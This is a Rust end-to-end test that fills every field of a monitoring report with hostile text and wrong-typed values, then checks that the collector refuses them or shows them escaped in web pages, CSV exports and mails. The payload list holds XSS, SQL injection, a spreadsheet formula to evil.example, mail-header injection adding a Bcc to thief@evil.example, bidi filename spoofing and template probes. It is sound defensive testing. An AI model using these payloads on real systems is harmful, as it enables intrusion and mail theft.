//! Every text and every value of a report with all fields, each replaced by what an attacker or a
//! broken agent would put there: the answer is an acknowledgement or a clear refusal, and what is
//! taken is shown harmlessly.

use crate::{Lab, zstd};
use beforehand_e2e::{
    parts::console::Console,
    time::{eventually, now},
};
use beforehand_shared::{ack::Refusal, time::Millis};
use mailparse::{MailHeader, ParsedMail};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    time::Duration,
};

/// One report with every field of protocol version 1.
const EVERY_FIELD: &str = include_str!("../../../shared/tests/golden/v1.json");
const SOON: Duration = Duration::from_secs(60);
/// The collector also writes its mails into files.
pub(crate) const MAILS: &str =
    "[mail]\nmode = \"files\"\nfolder = \"mails\"\ntickets_to = [\"desk@provider.example\"]\n";

const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>";

fn hostile() -> Vec<(&'static str, String)> {
    // It compresses less than a bomb would, so that its length is what is refused.
    let block: String =
        (0..8_192_u32).map(|n| char::from(b'a' + (n.wrapping_mul(2_654_435_761) >> 27) as u8 % 26)).collect();
    vec![
        ("control characters", "a\u{7}b\u{1b}[31mc\u{8}d\u{7f}\u{9b}e".to_owned()),
        ("characters that turn text around", "invoice\u{202e}fdp.exe\u{2066}x\u{2069}\u{200f}".to_owned()),
        ("NUL", "a\u{0}b".to_owned()),
        ("a mebibyte", block.repeat(128)),
        ("a script", SCRIPT.to_owned()),
        ("the end of an attribute", "\" onmouseover=\"alert(3)\" x='".to_owned()),
        ("quotes of SQL", "'; DROP TABLE frames; --\" OR 1=1".to_owned()),
        ("a formula", "=HYPERLINK(\"http://evil.example\",\"click\")".to_owned()),
        ("another header", "x\r\nX-Injected: yes\r\nBcc: thief@evil.example\r\n\r\nbody".to_owned()),
        ("a template", "{{ 7331 * 7 }}{% raw %}${7331*7}#{7331*7}".to_owned()),
        ("nothing", String::new()),
    ]
}

fn wrong_types() -> Vec<Value> {
    let huge: Value = serde_json::from_str("123456789012345678901234567890").unwrap();
    vec![json!(null), json!(true), json!(-1.5), json!(i64::MIN), huge, json!("x"), json!(["x"]), json!({"a": 1})]
}

/// JSON pointers to everything in `value` that holds nothing else.
fn leaves(value: &Value, at: &str, found: &mut Vec<String>) {
    let inner: Vec<(String, &Value)> = match value {
        Value::Object(fields) => fields.iter().map(|(name, inner)| (name.clone(), inner)).collect(),
        Value::Array(items) => items.iter().enumerate().map(|(n, inner)| (n.to_string(), inner)).collect(),
        _ => return found.push(at.to_owned()),
    };
    for (name, inner) in inner {
        leaves(inner, &format!("{at}/{name}"), found);
    }
}

/// Sends reports, each under a number of its own, and counts.
struct Attack<'a> {
    lab: &'a Lab,
    report: Value,
    seq: u64,
    taken: usize,
}

impl<'a> Attack<'a> {
    fn new(lab: &'a Lab) -> Self {
        let mut report: Value = serde_json::from_str(EVERY_FIELD).unwrap();
        report["host"] = json!(lab.identity.host);
        report["incarnation"] = json!(lab.identity.incarnation);
        // As if made just now: an alert about the past would not be opened.
        report["made_at"] = json!(now());
        for run in report["runs"].as_array_mut().unwrap() {
            run["at"] = json!(now().minus(Millis::seconds(1)));
        }
        Self { lab, report, seq: 0, taken: 0 }
    }

    fn leaves(&self) -> Vec<String> {
        let mut found = Vec::new();
        leaves(&self.report, "", &mut found);
        found
    }

    fn texts(&self) -> Vec<String> {
        self.leaves().into_iter().filter(|at| self.report.pointer(at).unwrap().is_string()).collect()
    }

    /// Whether the report with `value` in these places was taken. Anything but an acknowledgement
    /// or a clear refusal fails.
    async fn send(&mut self, places: &[String], value: &Value) -> bool {
        self.seq += 1;
        let mut report = self.report.clone();
        report["seq"] = json!(self.seq);
        for place in places {
            *report.pointer_mut(place).unwrap() = value.clone();
        }
        let response = self.lab.post(&self.lab.identity.secret, zstd(&report)).await;
        let status = response.status();
        assert!(response.headers().get("x-injected").is_none());
        let text = response.text().await.unwrap();
        if status.is_success() {
            self.taken += 1;
            return true;
        }
        let what = format!("{places:?} = {:.80}: {status} {text}", value.to_string());
        assert!(status.is_client_error() && status != StatusCode::TOO_MANY_REQUESTS, "{what}");
        let refusal: Refusal = serde_json::from_str(&text).unwrap();
        assert!(refusal.message.len() > 15 && refusal.message.ends_with('.') && harmless(&refusal.message), "{what}");
        false
    }
}

/// Whether nothing in `text` hides, reorders or forges; it may have lines. The characters that turn
/// text around are those of Unicode's bidirectional algorithm (UAX 9), and its marks.
fn harmless(text: &str) -> bool {
    let turns =
        |c| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    !text.chars().any(|c| turns(c) || (c.is_control() && !matches!(c, '\n' | '\r' | '\t')))
}

/// Every page that can be reached from the first, by its address, but for those in `known`.
async fn pages(console: &Console, known: &BTreeSet<String>) -> BTreeMap<String, String> {
    let mut pages = BTreeMap::new();
    let mut waiting: BTreeSet<String> =
        ["/", "/tickets", "/hosts", "/hosts?as=csv", "/mails", "/tasks", "/search?q=a"].map(str::to_owned).into();
    while let Some(address) = waiting.pop_first() {
        let (status, text) = console.page(&address).await.unwrap();
        assert_eq!(status, StatusCode::OK, "{address}");
        let links = text.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
        let kinds = ["/hosts/", "/assets/", "/tickets/", "/clients/", "/mails/", "/ledger/"];
        for link in links.filter(|link| kinds.iter().any(|kind| link.starts_with(kind))) {
            let link = link.replace("&amp;", "&").replace("&#38;", "&");
            let address = link.split('#').next().unwrap().to_owned();
            if !pages.contains_key(&address) && !known.contains(&address) {
                waiting.insert(address);
            }
        }
        pages.insert(address, text);
    }
    pages
}

fn assert_harmless(what: &str, pages: &BTreeMap<String, String>) {
    for (address, text) in pages {
        let line = text.lines().find(|line| !harmless(line));
        assert_eq!(line, None, "{what}: {address} shows a character that hides or turns text");
        for raw in ["<script>alert", "<img src=x", "\" onmouseover", "51317"] {
            assert!(!text.contains(raw), "{what}: {address} contains {raw:?} as it is");
        }
        if address.contains("as=csv") {
            let formula =
                text.split(',').find(|cell| cell.trim_start_matches(['"', '\r', '\n']).starts_with(['=', '@']));
            assert_eq!(formula, None, "{what}: a spreadsheet would run this cell of {address}");
        }
    }
}

async fn until_digested(lab: &Lab) {
    eventually("the unpacking of all reports", SOON, || async {
        lab.store.undigested(1).await.unwrap().is_empty().then_some(())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_text_of_a_report_may_be_hostile_and_is_refused_or_shown_harmlessly() {
    let lab = Lab::with(MAILS).await;
    let console = Console::set_up(&lab.collector).await.unwrap();
    let before = lab.people_and_places().await;
    let mut attack = Attack::new(&lab);
    let (mut shown, mut known) = (BTreeSet::new(), BTreeSet::new());
    for (what, text) in hostile() {
        let mut taken = Vec::new();
        for place in attack.texts() {
            if attack.send(std::slice::from_ref(&place), &json!(text)).await {
                taken.push(place);
            }
        }
        if what == "a mebibyte" {
            assert_eq!(taken, Vec::<String>::new(), "a text of a mebibyte is refused wherever it stands");
            continue;
        }
        assert!(taken.len() >= 30, "{what} is a text like others in most places: {taken:?}");
        assert!(attack.send(&taken, &json!(text)).await, "{what} in all places at once");
        until_digested(&lab).await;
        // What has such names has pages that were not there before.
        let pages = pages(&console, &known).await;
        assert_harmless(what, &pages);
        known.extend(pages.keys().cloned());
        let is_shown = |page: &String| page.contains("&lt;script") || page.contains("&#60;script");
        shown.extend(pages.iter().filter(|(_, page)| is_shown(page)).map(|(address, _)| address.clone()));
    }
    assert!(shown.iter().any(|page| page.starts_with("/assets/")), "the script is shown as text: {shown:?}");

    // Judged, with tickets and mails about what has such names.
    let judged = now();
    eventually("a judgement of it all", SOON, || async {
        lab.store.sites_due(judged, Millis(0)).await.unwrap().is_empty().then_some(())
    })
    .await;
    let pages = pages(&console, &BTreeSet::new()).await;
    assert_harmless("judged", &pages);
    assert!(pages.keys().any(|address| address.starts_with("/tickets/")), "a stopped printer has a ticket");
    lab.assert_mails_are_harmless().await;
    assert_eq!(lab.stored().await, attack.taken, "what was refused is not kept");
    assert_eq!(lab.people_and_places().await, before, "nothing else changes");
    let said = lab.collector.said();
    assert!(!said.contains("panicked") && !said.contains("ERROR"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_value_of_a_report_may_be_of_a_wrong_type_and_is_taken_or_clearly_refused() {
    let lab = Lab::with(MAILS).await;
    let before = lab.people_and_places().await;
    let mut attack = Attack::new(&lab);
    let places = attack.leaves();
    assert!(places.len() > 100, "{} values", places.len());
    let mut refused = 0;
    for place in &places {
        for wrong in wrong_types() {
            refused += u32::from(!attack.send(std::slice::from_ref(place), &wrong).await);
        }
    }
    assert!(refused > 500, "{refused} refusals");
    until_digested(&lab).await;
    let console = Console::set_up(&lab.collector).await.unwrap();
    assert_harmless("wrong types", &pages(&console, &BTreeSet::new()).await);
    assert_eq!(lab.stored().await, attack.taken);
    assert_eq!(lab.people_and_places().await, before);
    let said = lab.collector.said();
    assert!(!said.contains("panicked") && !said.contains("ERROR"), "{said}");
}

impl Lab {
    /// Names of what a report must not make, change or remove.
    async fn people_and_places(&self) -> Vec<String> {
        let client = self.identity.client;
        let mut names: Vec<String> =
            self.store.clients().await.unwrap().into_iter().map(|client| format!("{client:?}")).collect();
        names.extend(self.store.all_sites().await.unwrap().into_iter().map(|site| format!("{site:?}")));
        names.extend(self.store.hosts(client).await.unwrap().into_iter().map(|host| host.id.to_string()));
        names
    }

    /// Mails about what has hostile names: one header block each, as the collector wrote it.
    async fn assert_mails_are_harmless(&self) {
        let folder = self.collector.state.join("mails");
        let files = eventually("a mail about a ticket", SOON, || async {
            let files = fs::read_dir(&folder).ok()?.map(|file| file.unwrap().path());
            // Others are still being written.
            let files: Vec<_> = files.filter(|file| file.extension().is_some_and(|end| end == "eml")).collect();
            (!files.is_empty()).then_some(files)
        })
        .await;
        for file in files {
            let raw = fs::read(&file).unwrap();
            let mail = mailparse::parse_mail(&raw).unwrap();
            let names: Vec<String> = mail.headers.iter().map(|header| header.get_key().to_lowercase()).collect();
            assert!(!names.iter().any(|name| name == "x-injected" || name == "bcc"), "{names:?}");
            let texts = mail.headers.iter().map(MailHeader::get_value).chain(bodies(&mail));
            for text in texts {
                assert!(harmless(&text) && !text.contains("51317"), "{text}");
            }
            let html = mail.parts().find(|part| part.ctype.mimetype == "text/html").unwrap().get_body().unwrap();
            assert!(!html.contains("<script>alert") && !html.contains("<img src=x"), "{html}");
        }
    }
}

/// The texts of a mail, as a reader shows them.
fn bodies(mail: &ParsedMail<'_>) -> Vec<String> {
    let shown = mail.parts().filter(|part| part.subparts.is_empty() && part.ctype.mimetype.starts_with("text/"));
    shown.map(|part| part.get_body().unwrap()).collect()
}
